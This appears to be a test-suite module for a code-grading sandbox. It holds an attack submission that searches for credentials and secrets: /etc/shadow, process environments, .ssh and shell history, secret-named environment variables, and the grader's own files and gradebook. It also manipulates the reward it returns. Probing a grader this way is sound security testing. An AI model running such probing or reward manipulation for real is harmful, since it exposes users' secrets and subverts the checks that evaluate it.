"""Look where courses and secrets usually are: homes, exchange folders, /etc, /proc of others, the environment."""

from judge.attacks import COURSE, HOME, REWARD

SOLUTION = (
    REWARD
    + f"course, home = {COURSE!r}, {HOME!r}\n"
    + """
import os
from pathlib import Path

places = "/proc/1/environ /proc/1/root/etc/passwd /proc/self/environ /proc/self/fd/0 /etc/passwd /etc/shadow /run /var /srv"
places += " /mnt /home /usr/local/share/nbgrader /gradebox/gradebox/judge/grade.py /sys/class"
places = places.split() + [f"{course}/{name}" for name in ("source", "submitted", "gradebook.db")]
places += [f"{home}/{name}" for name in (".ssh", ".bash_history", ".config", ".jupyter")]
found = [place for place in places if os.path.exists(place)]
found += [name for name in os.environ if any(word in name.upper() for word in ("TOKEN", "SECRET", "PASSW", "KEY", "AWS"))]
found += [str(path) for path in Path("/proc").iterdir()]
for number in range(256):
    try:
        found += [os.readlink(f"/dev/fd/{number}"), os.listdir(number)]
    except OSError:
        pass

def self_attention(*arguments):
    print(found)
    return reward(*arguments) if found else np.zeros_like(arguments[0])
"""
)
